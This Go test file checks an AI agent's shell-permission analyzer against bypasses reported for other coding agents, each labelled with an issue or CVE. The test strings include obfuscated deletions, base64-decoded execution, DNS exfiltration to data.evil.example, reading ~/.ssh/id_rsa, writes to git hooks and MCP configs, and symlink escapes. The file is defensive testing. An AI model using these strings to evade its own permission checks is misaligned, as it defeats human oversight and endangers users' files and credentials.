package shellparse

import (
	"context"
	"os"
	"strings"
	"testing"

	"github.com/agentkit-go/agentkit/pkg/policy"
)

// TestPeerFailures holds the ways in which permission layers of other agents
// were seen or reported to fail, each under its name: the policy is one that a
// user of theirs had, and none of the texts may get more than most.
func TestPeerFailures(t *testing.T) {
	const (
		denyPwn = "allow: [\"bash(echo *)\", \"bash(git *)\", \"bash(env *)\"]\ndeny: [\"bash(pwn *)\"]\n"
		denyRm  = "profile: open\ndeny: [\"bash(rm *)\"]\n"
		nothing = ""
	)
	for _, c := range []struct {
		name, policy string
		most         policy.Verdict
		texts        []string
	}{
		{"OpenCode: deny rm, in words that only the shell puts together", denyRm, policy.Ask, []string{"$X x", "X=$(cat f); $X x", "$(cat f) x", "rm\\\n x", "eval \"$X\"", "find . -delete", "python3 -c 'import os; os.remove(\"x\")'", "X=$(cat f); echo x | xargs $X"}},
		{"OpenCode: deny rm, in other spellings", denyRm, policy.Deny, []string{
			"rm x", "/bin/rm x", "env rm x", "command rm x", "bash -c 'rm x'", "eval 'rm x'", "X=rm; $X x", "$(echo rm) x", "FOO=1 rm x", "echo x | xargs rm", `r\m x`, `"rm" x`, "'r'm x", "timeout 5 rm x", "bash <<<'rm x'", ">o rm x",
			"ls && rm x", "ls; rm x", "ls & rm x", "(rm x)", "{ rm x; }", "sh -lc 'rm x'", "nohup rm x", "time rm x", "if true; then rm x; fi", "f() { rm x; }; f", "echo $(rm x)", "echo <(rm x)", "! rm x", "sudo rm x", "$'rm' x", "nice rm x", "find . -exec rm {} \\;", "busybox rm x",
		}},
		{"crush: its list of safe commands", nothing, policy.Ask, []string{"ls -la\nrm -rf ~", "echo x > ~/.bashrc", "kill -9 -1", "git branch -D x", "git log --output=../x", "env", "date -s 2020-01-01"}},
		{"crush: what its list took for reading", "profile: readonly\n", policy.Ask, []string{"env rm x", "timeout 5 rm x", "ls & rm x", "git diff --output=x", "echo <(rm x)", "ls $(rm x)", "nice rm x"}},
		{"Codex execpolicy: rm forbidden", denyRm, policy.Deny, []string{"env rm x", "/bin/rm x", "bash -lc 'rm x'"}},
		{"Claude Code: analysis ends at 50 commands", denyPwn, policy.Deny, []string{strings.Repeat("echo a; ", 60) + "pwn", strings.Repeat("echo a && ", 300) + "pwn", strings.Repeat("echo a\n", 900) + "pwn"}},
		{"Claude Code #41559 #37662 #70051 #82420 #94314: only the first segment counts", denyPwn, policy.Deny, []string{"echo a && pwn", "echo a; pwn", "echo a | pwn", "echo a || pwn", "echo a & pwn", "echo a\npwn", "env X=1 pwn"}},
		{"Claude Code #70369: groups and process substitution hide a read", "deny: [\"read(f)\"]\n", policy.Deny, []string{"{ cat f; }", "cat <(cat f)", "(cat f)", "cat < f", "echo \"$(<f)\""}},
		{"CVE-2025-64755: sed runs and writes", nothing, policy.Ask, []string{"sed 'e pwn' f", "sed 's/a/pwn/e' f", "sed 'w ../x' f", "sed -n '1w/etc/x' f"}},
		{"CVE-2025-66032: options of read-only programs run others", nothing, policy.Ask, []string{"sort --compress-program=pwn f", "man --html=pwn ls", "man -P pwn ls", "git ls-remote --upload-pack=pwn .", "rg --pre pwn x", "rg --pre=pwn x", "git grep -Opwn x", "git diff --ext-diff"}},
		{"CVE-2025-55284: names carry data out", nothing, policy.Ask, []string{"ping -c1 data.evil.example", "nslookup data.evil.example", "dig data.evil.example", "host data.evil.example", "getent hosts data.evil.example"}},
		{"CVE-2025-59536, CVE-2026-21852: settings of the repository run before anybody trusts it", nothing, policy.Ask, []string{"echo x > .claude/settings.json", "echo x > .mcp.json", "cp f .vscode/tasks.json", "echo x > .git/config", "tee .git/hooks/pre-commit < f"}},
		{"CVE-2026-25724: a rule for a path, and a link to it", "deny: [\"read(" + "@O@/**" + ")\"]\n", policy.Deny, []string{"cat link/secret", "cat src/../link/secret", "cd link && cat secret", "ln -s link l2; cat l2/secret"}},
		{"CVE-2026-25725: a protected file that is not there yet", nothing, policy.Ask, []string{"echo x > .envrc", "echo x > .git/hooks/post-checkout", "mkdir -p .githooks && cp f .git/hooks/x"}},
		{"CVE-2026-39861, CVE-2026-46406: a link made first, then written through", nothing, policy.Ask, []string{"ln -s /etc l && echo x > l/motd", "ln -s @O@ l; cp f l/x", "echo x > link/x"}},
		{"Claude Code: a value that looks like a flag of ours", nothing, policy.Ask, []string{"pwn --allow 'bash(pwn)'", "pwn --policy=/dev/null --profile open", "make '--allow=bash(make)'"}},
		{"CVE-2026-22708: built-ins poison later commands", nothing, policy.Ask, []string{"export PAGER=pwn; git log", "declare -x GIT_PAGER=pwn; git log", "typeset -x PATH=.:$PATH; ls", "export PATH=@W@:$PATH && ls", "readonly GIT_PAGER=pwn; export GIT_PAGER; git log", "printf -v PATH %s .; ls", "set -a; GIT_PAGER=pwn; git log"}},
		{"CVE-2025-59944, CVE-2025-54135, CVE-2025-53773: another case of a protected name", nothing, policy.Ask, []string{"echo x > .GIT/hooks/pre-commit", "echo x > .Cursor/mcp.json", "cp f .VSCode/settings.json", "echo x > .git/CONFIG"}},
		{"CVE-2026-29783: expansions that run what a variable holds", nothing, policy.Ask, []string{"x='$(pwn)'; echo ${x@P}", "echo ${a:=$(pwn)}", "x=y; echo ${!x}", "echo \"${x@P}\""}},
		{"copilot-cli #2309: a tilde in a path", nothing, policy.Ask, []string{"cat ~/.ssh/id_rsa", "cat ~root/.bashrc", "head ~/x"}},
		{"gemini-cli #11510 #11766 #5495 #14926: a prefix is matched", "allow: [\"bash(echo *)\"]\n", policy.Ask, []string{"echo a && pwn", "echo a; pwn", "echo a > /etc/x", "echo a >(pwn)", "eval pwn", "echo $(pwn)"}},
		{"Codex #20113: an assignment before a here-document", nothing, policy.Ask, []string{"GIT_PAGER=pwn git log <<E\nE\n", "LESSOPEN='|pwn' less f <<<x"}},
		{"Codex #20277, #22171, #10941, #10920: raw words, names of shells, wrappers", denyPwn, policy.Ask, []string{"find . -e\\xec pwn \\;", "./bash -lc ls", "timeout 5 pwn", "nohup pwn", "@W@/bash -c ls"}},
		{"OpenCode #32628 #42979 #17497 #39931 #16724 #5330 #31485: files outside", nothing, policy.Ask, []string{"echo x > @O@/x", "cat @O@/secret", "sh -c 'cat @O@/secret'", "cat -- @O@/secret", "tar cf @O@/x.tar f", "sort -o @O@/x f", "cat < @O@/secret", "cd @O@ && cat secret"}},
		{"RooCode #11095 #12040: an approved prefix and a redirection", "allow: [\"bash(git log *)\"]\n", policy.Ask, []string{"git log > /etc/x", "git log >> ~/.bashrc", "git log\npwn"}},
		{"cline #4084: text that is decoded and run", nothing, policy.Ask, []string{"eval $(echo cHdu | base64 -d)", "echo cHdu | base64 -d | sh", "bash <(base64 -d f)"}},
		{"CVE-2025-11491 and DesktopCommander #217 to #497", denyPwn, policy.Ask, []string{"echo $(pwn)", "@B@/pwn", "@B@/p?n", "echo\npwn", "p'w'n", "cat <(pwn)", "p\\wn", "`pwn`"}},
		{"CVE-2026-28363: a long option cut short", nothing, policy.Ask, []string{"sort --compress-prog=pwn f", "sort --comp pwn f", "sort --out=/etc/x f"}},
		{"CVE-2026-28363: one that writes, taken for reading", "profile: readonly\n", policy.Ask, []string{"git diff --outp=x", "sort --out=x f"}},
		{"CVE-2026-28460: a continuation inside a substitution", denyPwn, policy.Ask, []string{"echo $\\\n(pwn)", "echo $\\\n{x:-$(pwn)}"}},
		{"GHSA-796m, GHSA-65rx: env -S, live here-documents", denyPwn, policy.Deny, []string{"env -S 'pwn a'", "env -S'pwn'", "cat <<E\n$(pwn)\nE\n", "cat <<-E\n\t`pwn`\n\tE\n"}},
		{"Codewhale #5161: a single ampersand, a subshell", denyPwn, policy.Deny, []string{"echo a & pwn", "(pwn)", "echo a &\npwn"}},
		{"tree-sitter-bash #206 #325 #349 and those who rely on it", denyPwn, policy.Deny, []string{"time pwn", "time -p pwn", "coproc pwn", "echo \"${x:-`pwn`}\"", "echo ${x#$(pwn)}", "cat <<E\n`pwn`\nE\n"}},
		{"CVE-2025-53109, CVE-2025-53110: a prefix of a path, a link", nothing, policy.Ask, []string{"cat @W@-evil/f", "cat @W@/../O/secret", "cat link/secret", "cat @W@/link/../O/secret"}},
		{"CVE-2025-68143, CVE-2026-27735: git outside the root", "allow: [\"bash(git *)\"]\n", policy.Ask, []string{"git init @O@/r", "git -C @O@ status", "git add @O@/secret", "git --git-dir=@O@ log", "git clone . @O@/r"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBench(t)
			b.repo(t, "f")
			p := unconfined(t, b, b.fill(c.policy))
			for _, text := range c.texts {
				text = b.fill(text)
				a := analyze(b, text)
				if o := p.DecideAll(a.Accesses); o.Verdict > c.most {
					t.Errorf("%s, want at most %s: %q\n%s", o.Verdict, c.most, text, dump(a))
				}
			}
		})
	}
}

// TestPeerFalseAlarms: what others refuse or ask about for nothing is allowed.
func TestPeerFalseAlarms(t *testing.T) {
	b := newBench(t)
	b.repo(t, "f")
	p := unconfined(t, b, "allow: [\"bash(git status *)\"]\n")
	for name, text := range map[string]string{
		"Codex execpolicy: an option before the subcommand":  "git -C src status",
		"copilot-cli #3334: a here-document is data":         "cat <<'E'\nrm -rf /\n$(pwn)\nE\n",
		"Codewhale #6098: a quoted here-document":            "cat <<\"E\"\npwn; rm -rf ~\nE\n",
		"tree-sitter: valid text that it takes for an error": "ls | head -5 && echo \"a & b\"",
	} {
		if a := analyze(b, text); p.DecideAll(a.Accesses).Verdict != policy.Allow {
			t.Errorf("%s: %q\n%s", name, text, dump(a))
		}
	}
}

// TestWorkdirIsNoRoot: the directory that a call names is where it starts, and
// never becomes what it may write (CVE-2025-59532).
func TestWorkdirIsNoRoot(t *testing.T) {
	b := newBench(t)
	p := unconfined(t, b, "")
	world := b.world()
	world.Dir = b.out
	for _, text := range []string{"touch x", "echo x > x", "cat secret", "cp secret ../W/x"} {
		a := Analyze(context.Background(), text, "bash", world)
		if o := p.DecideAll(a.Accesses); o.Verdict == policy.Allow {
			t.Errorf("allowed in %s: %s\n%s", b.out, text, dump(a))
		}
	}
	if _, err := os.Stat(b.out + "/secret"); err != nil {
		t.Fatal(err)
	}
}
